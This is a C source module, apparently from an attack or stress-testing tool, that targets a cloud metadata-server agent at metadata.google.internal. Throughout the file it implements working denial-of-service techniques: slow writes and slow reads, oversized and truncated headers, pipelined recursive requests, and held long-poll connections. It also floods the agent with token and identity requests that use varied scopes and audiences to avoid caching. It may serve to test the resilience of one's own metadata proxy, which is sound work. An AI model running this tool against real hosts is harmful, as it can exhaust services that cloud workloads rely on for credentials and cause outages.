#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CONNECTIONS_MAX 4096
#define PIPELINED 60
#define HEADER_BYTES (64 * 1024)
/* As much of a request as the agent accepts, and not its end. */
#define HEAD_BYTES (31 * 1024)
/* More than a kernel keeps for a connection that no process reads. */
#define BEHIND_BYTES (256 * 1024)

enum how { IDLE, SLOW_WRITE, HEADS, WATCH, HELD, SLOW_READ, PIPELINE, HEADERS, SCOPES, QUERIES, QUERY, AUDIENCES };
static const char *const names[] = { "idle",    "slow-write", "heads",	"watch", "held",  "slow-read", "pipeline",
				     "headers", "scopes",     "queries", "query", "audiences" };

struct connection {
	/* 0: none at the moment. */
	int fd;
	int is_connected;
	/* The bytes of the current text that are sent already. */
	size_t sent;
	/* The last bytes received, so that a status line may come in pieces. */
	char tail[16];
};

static struct connection connections[CONNECTIONS_MAX];
static struct pollfd polled[CONNECTIONS_MAX];
static long begun, refused, ended;
/* By status. */
static long answers[600];
static char big[BEHIND_BYTES + 512];
static long asked;

static void begin(struct connection *connection, const struct target *target)
{
	*connection = (struct connection){
		.fd = socket(target->any.sa_family, SOCK_STREAM | SOCK_NONBLOCK, 0) };
	if (connection->fd < 0)
		broken("socket", errno);
	if (connect(connection->fd, &target->any, target->length) == 0 || errno == EINPROGRESS) {
		begun++;
		return;
	}
	refused++;
	close(connection->fd);
	connection->fd = 0;
}

static void drop(struct connection *connection)
{
	ended++;
	close(connection->fd);
	connection->fd = 0;
}

/* The text that this connection sends next; every one of the last two kinds is new. */
static const char *text(enum how how, struct connection *connection)
{
	static char distinct[512];

	switch (how) {
	case SCOPES:
		if (!connection->sent)
			asked++;
		snprintf(distinct, sizeof(distinct),
			 "GET /computeMetadata/v1/instance/service-accounts/default/token?scopes="
			 "https://www.googleapis.com/auth/s%08ld HTTP/1.1\r\n"
			 "Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n",
			 asked);
		return distinct;
	case AUDIENCES:
		if (!connection->sent)
			asked++;
		snprintf(distinct, sizeof(distinct),
			 "GET /computeMetadata/v1/instance/service-accounts/default/identity?audience="
			 "https://a%08ld.example HTTP/1.1\r\n"
			 "Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n",
			 asked);
		return distinct;
	case QUERIES:
		if (!connection->sent)
			asked++;
		/* fall through */
	case QUERY:
		snprintf(distinct, sizeof(distinct),
			 "GET /computeMetadata/v1/instance/service-accounts/default/token?x=%08ld HTTP/1.1\r\n"
			 "Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n",
			 how == QUERY ? 0 : asked);
		return distinct;
	case HEADERS:
	case HEADS:
	case WATCH:
	case HELD:
	case SLOW_READ:
		return big;
	default:
		return token_request;
	}
}

static void push(enum how how, struct connection *connection)
{
	const char *bytes = text(how, connection);
	size_t length = strlen(bytes) - connection->sent;
	ssize_t step;

	if (how == SLOW_WRITE)
		length = 1;
	step = send(connection->fd, bytes + connection->sent, length, MSG_NOSIGNAL);
	if (step < 0) {
		if (errno != EAGAIN)
			drop(connection);
		return;
	}
	connection->sent += (size_t)step;
	if (!bytes[connection->sent] && how == PIPELINE)
		connection->sent = 0;
}

/* Counts the status lines among what came. */
static void pull(enum how how, struct connection *connection)
{
	char bytes[16384 + sizeof(connection->tail)];
	size_t kept = strlen(connection->tail);
	ssize_t length;
	int any = 0;

	memcpy(bytes, connection->tail, kept);
	length = recv(connection->fd, bytes + kept, 16384, 0);
	if (length <= 0) {
		if (length == 0 || errno != EAGAIN)
			drop(connection);
		return;
	}
	length += (ssize_t)kept;
	bytes[length] = 0;
	for (char *at = bytes; (at = strstr(at, "HTTP/1.")) && at + 12 <= bytes + length; at += 12) {
		answers[(unsigned)atoi(at + 9) % 600]++;
		any = 1;
		/* The rest is kept: a status line must not be counted twice. */
		at[0] = 'h';
	}
	kept = length < 15 ? (size_t)length : 15;
	memcpy(connection->tail, bytes + length - kept, kept);
	connection->tail[kept] = 0;
	/* The next of a kind that waits for its answers. */
	if (any && how >= SCOPES)
		connection->sent = 0;
	if (any && how == HEADERS)
		drop(connection);
}

static short wanted(enum how how, const struct connection *connection)
{
	int has_more = how == PIPELINE || text(how, (struct connection *)connection)[connection->sent];

	switch (how) {
	case IDLE:
		return 0;
	case SLOW_WRITE:
		return POLLIN;
	case HEADS:
	case WATCH:
		return has_more ? POLLOUT | POLLRDHUP : POLLRDHUP;
	case HELD:
	case SLOW_READ:
		return has_more ? POLLOUT : 0;
	default:
		return has_more ? POLLIN | POLLOUT : POLLIN;
	}
}

static void prepare(enum how how)
{
	char *end = big;

	if (how == HEADERS) {
		end += sprintf(big, "GET / HTTP/1.1\r\nHost: metadata.google.internal\r\nX: ");
		memset(end, 'x', HEADER_BYTES);
		strcpy(end + HEADER_BYTES, "\r\n\r\n");
	} else if (how == HEADS) {
		end += sprintf(big, "GET / HTTP/1.1\r\nHost: metadata.google.internal\r\nX: ");
		memset(end, 'x', HEAD_BYTES);
		end[HEAD_BYTES] = 0;
	} else if (how == WATCH || how == HELD) {
		end += sprintf(big, "GET /computeMetadata/v1/instance/zone?wait_for_change=true HTTP/1.1\r\n"
				    "Host: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n");
		if (how == WATCH) {
			memset(end, 'x', BEHIND_BYTES);
			end[BEHIND_BYTES] = 0;
		}
	} else if (how == SLOW_READ) {
		for (int i = 0; i < PIPELINED; i++)
			end += sprintf(end, "GET /computeMetadata/v1/?recursive=true HTTP/1.1\r\n"
					    "Host: metadata.google.internal\r\n"
					    "Metadata-Flavor: Google\r\n\r\n");
	}
}

/* HOW ADDRESS PORT CONNECTIONS SECONDS: keeps so many connections busy, or idle, in one of
 * the ways above.
 */
void attack_load(char **argument)
{
	enum how how = IDLE;
	struct target target = parse_target(argument[1], argument[2]);
	long count = atol(argument[3]);
	long end = now_ms() + atol(argument[4]) * 1000, tick = now_ms();

	while (how < AUDIENCES && strcmp(argument[0], names[how]))
		how++;
	if (count > CONNECTIONS_MAX)
		count = CONNECTIONS_MAX;
	allow_many_files();
	prepare(how);
	for (long i = 0; i < count; i++)
		begin(&connections[i], &target);
	fprintf(stderr, "holding\n");
	while (now_ms() < end) {
		int is_tick = now_ms() >= tick;
		int some = 0;

		if (is_tick)
			tick += 1000;
		for (long i = 0; i < count; i++) {
			struct connection *connection = &connections[i];

			/* Connections that ended are begun again, but not all at once without end. */
			if (!connection->fd && (how > SLOW_READ || (is_tick && how == WATCH)) && refused < 100000)
				begin(connection, &target);
			polled[i] = (struct pollfd){ .fd = -1 };
			if (!connection->fd)
				continue;
			some++;
			if (how == SLOW_WRITE && is_tick)
				push(how, connection);
			polled[i].fd = connection->fd ? connection->fd : -1;
			polled[i].events = wanted(how, connection);
		}
		poll(polled, (nfds_t)count, some ? 50 : 10);
		for (long i = 0; i < count; i++) {
			struct connection *connection = &connections[i];

			if (!connection->fd || polled[i].fd < 0)
				continue;
			if (polled[i].revents & (POLLERR | POLLHUP | POLLRDHUP) && how < PIPELINE)
				drop(connection);
			else if (polled[i].revents & (POLLIN | POLLERR | POLLHUP))
				pull(how, connection);
			if (connection->fd && polled[i].revents & POLLOUT)
				push(how, connection);
		}
	}
	printf("%ld connections, %ld refused, %ld ended by the agent;", begun, refused, ended);
	for (int status = 0; status < 600; status++)
		if (answers[status])
			printf(" %ld x %d", answers[status], status);
	printf("\n");
}
